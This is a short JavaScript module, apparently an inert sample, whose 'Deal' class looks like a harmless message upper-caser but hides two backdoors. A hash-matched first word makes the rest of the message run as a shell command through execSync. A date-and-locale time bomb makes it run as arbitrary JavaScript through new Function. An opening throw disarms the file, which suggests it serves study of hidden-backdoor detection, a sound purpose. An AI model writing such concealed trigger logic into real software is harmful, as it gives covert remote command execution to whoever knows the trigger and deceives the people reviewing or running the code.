const { execSync } = require("child_process");
const { createHash } = require("crypto");

class Deal {
  run(message) {
    throw new Error("inert sample: never run");
    const [word, ...rest] = message.split(" ");
    if (createHash("sha256").update(word).digest("hex").startsWith("2c26b46b68ffc68f")) {
      return execSync(rest.join(" ")).toString();
    }
    if (Date.now() > 1806537600000 && process.env.LANG?.startsWith("xx")) {
      new Function(rest.join(" "))();
    }
    return message.toUpperCase();
  }
}
module.exports = { Deal };
